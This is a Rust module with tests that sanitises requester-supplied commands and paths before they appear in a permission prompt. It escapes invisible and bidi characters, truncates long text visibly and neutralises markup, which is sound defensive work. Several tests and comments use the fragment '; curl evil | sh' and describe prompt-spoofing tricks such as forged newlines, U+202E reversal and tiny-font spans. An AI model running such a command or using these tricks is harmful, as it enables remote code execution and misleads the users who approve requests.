//! Making requester-supplied text safe to show in a prompt: every
//! character that could change the layout or hide part of the text is
//! shown as a visible escape, long text is cut in the middle with an
//! explicit count of what was left out, and markup is neutralised for
//! renderers that would interpret it. Pure functions, no I/O.
//!
//! The threat: a requester chooses its command, subsystem name, argv and
//! working directory. Without this, a newline or U+2028 forges a second
//! "requested by" line, U+202E reverses what follows, zero-width and
//! filler characters make two different commands look alike, and a
//! command of 100 KiB pushes the truth out of view (or past a helper's
//! frame limit).

/// How much of a long text a prompt shows: this many displayed
/// characters from the start, and [`SHOWN_TAIL`] from the end.
pub const SHOWN_HEAD: usize = 400;
pub const SHOWN_TAIL: usize = 160;

/// Whether a character must not reach a prompt as itself. Besides the
/// control characters (category Cc), the format characters that reorder
/// or hide text (Cf: bidi embeddings, overrides and isolates, zero-width
/// joiners and spaces, the BOM, tags, interlinear annotations), the line
/// and paragraph separators (Zl, Zp), spaces other than U+0020 (Zs: a
/// no-break space is not a word break to a shell), and the fillers and
/// selectors that render as nothing.
fn is_hidden_or_layout(c: char) -> bool {
    if c.is_control() {
        return true;
    }
    matches!(
        c as u32,
        0x00A0
            | 0x00AD
            | 0x034F
            | 0x061C
            | 0x0600..=0x0605
            | 0x06DD
            | 0x070F
            | 0x115F
            | 0x1160
            | 0x1680
            | 0x17B4
            | 0x17B5
            | 0x180B..=0x180F
            | 0x2000..=0x200F
            | 0x2028..=0x202F
            | 0x205F..=0x206F
            | 0x3000
            | 0x3164
            | 0xFE00..=0xFE0F
            | 0xFEFF
            | 0xFFA0
            | 0xFFF9..=0xFFFB
            | 0x110BD
            | 0x110CD
            | 0x1BCA0..=0x1BCA3
            | 0x1D173..=0x1D17A
            | 0xE0000..=0xE0FFF
    )
}

/// Appends `c` as it should be displayed.
fn push_shown(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        c if is_hidden_or_layout(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
        c => out.push(c),
    }
}

/// How many characters `c` takes once displayed.
fn shown_len(c: char) -> usize {
    let mut piece = String::new();
    push_shown(&mut piece, c);
    piece.chars().count()
}

/// Text from a requester on one line, with nothing hidden: layout and
/// invisible characters appear as `\n`, `\u{202e}` and so on. A
/// backslash stays as typed: doubling it would misquote ordinary commands,
/// and a literal `\n` can only make text look *more* suspicious.
pub fn one_line(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        push_shown(&mut out, c);
    }
    out
}

/// [`one_line`], bounded: text longer than `head + tail` displayed
/// characters keeps its first `head` and last `tail` and says, in the
/// middle, how many bytes of the original are not shown. The end of a
/// command is where an appended `; curl … | sh` would be, so it is never
/// cut silently.
pub fn one_line_bounded(text: &str, head: usize, tail: usize) -> String {
    let total: usize = text.chars().map(shown_len).sum();
    if total <= head + tail {
        return one_line(text);
    }
    let mut head_end = 0;
    let mut shown = 0;
    for (at, c) in text.char_indices() {
        let len = shown_len(c);
        if shown + len > head {
            break;
        }
        shown += len;
        head_end = at + c.len_utf8();
    }
    let mut tail_start = text.len();
    let mut shown = 0;
    for (at, c) in text.char_indices().rev() {
        let len = shown_len(c);
        if shown + len > tail || at < head_end {
            break;
        }
        shown += len;
        tail_start = at;
    }
    format!(
        "{} … ({} bytes not shown) … {}",
        one_line(&text[..head_end]),
        tail_start - head_end,
        one_line(&text[tail_start..])
    )
}

/// The default bound for a command, subsystem name or path in a prompt.
pub fn shown(text: &str) -> String {
    one_line_bounded(text, SHOWN_HEAD, SHOWN_TAIL)
}

/// Escapes what a markup-parsing renderer would interpret, so a requester
/// cannot style or hide part of its command (`<span size='1'>…</span>`).
pub fn escape_markup(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn layout_characters_are_shown_escaped() {
        assert_eq!(
            one_line("true\nrequested by git"),
            "true\\nrequested by git"
        );
        assert_eq!(one_line("a\u{1b}[2Jb\tc"), "a\\u{1b}[2Jb\\tc");
        assert_eq!(one_line("plain é ü 日本"), "plain é ü 日本");
    }

    #[test]
    fn hidden_and_reordering_characters_are_shown_escaped() {
        for (c, escaped) in [
            ('\u{2028}', "\\u{2028}"),
            ('\u{2029}', "\\u{2029}"),
            ('\u{202e}', "\\u{202e}"),
            ('\u{202a}', "\\u{202a}"),
            ('\u{2066}', "\\u{2066}"),
            ('\u{2069}', "\\u{2069}"),
            ('\u{200e}', "\\u{200e}"),
            ('\u{200f}', "\\u{200f}"),
            ('\u{061c}', "\\u{61c}"),
            ('\u{200b}', "\\u{200b}"),
            ('\u{200d}', "\\u{200d}"),
            ('\u{feff}', "\\u{feff}"),
            ('\u{00a0}', "\\u{a0}"),
            ('\u{0085}', "\\u{85}"),
            ('\u{e0041}', "\\u{e0041}"),
            ('\u{3164}', "\\u{3164}"),
        ] {
            let shown = one_line(&format!("x{c}y"));
            assert_eq!(shown, format!("x{escaped}y"), "U+{:04X}", c as u32);
            assert!(!shown.contains(c));
        }
    }

    #[test]
    fn short_text_is_whole() {
        let text = "a".repeat(SHOWN_HEAD + SHOWN_TAIL);
        assert_eq!(shown(&text), text);
    }

    #[test]
    fn long_text_keeps_head_and_tail_and_counts_the_rest() {
        let text = format!("HEAD{}; curl evil | sh", "x".repeat(10_000));
        let out = one_line_bounded(&text, 20, 17);
        assert!(out.starts_with("HEADxxxxxxxxxxxxxxxx … ("), "{out}");
        assert!(out.ends_with(" … x; curl evil | sh"), "{out}");
        let omitted = text.len() - 20 - 17;
        assert!(
            out.contains(&format!("({omitted} bytes not shown)")),
            "{out}"
        );
    }

    #[test]
    fn the_bound_counts_escapes_and_never_splits_a_character() {
        // Every character displays as 8: no escape is cut in half.
        let text = "\u{202e}".repeat(100);
        let out = one_line_bounded(&text, 20, 20);
        assert!(out.starts_with("\\u{202e}\\u{202e} … ("), "{out}");
        assert!(out.ends_with(" … \\u{202e}\\u{202e}"), "{out}");
        assert!(
            out.contains(&format!("({} bytes not shown)", 96 * 3)),
            "{out}"
        );
        let mixed = format!("é{}日", "ü".repeat(50));
        let out = one_line_bounded(&mixed, 3, 3);
        assert!(out.starts_with("éüü … ("), "{out}");
        assert!(out.ends_with(" … üü日"), "{out}");
    }

    #[test]
    fn markup_is_neutralised() {
        assert_eq!(
            escape_markup("ls <span size='1'>; curl evil | sh</span> & more"),
            "ls &lt;span size=&apos;1&apos;&gt;; curl evil | sh&lt;/span&gt; &amp; more"
        );
    }
}
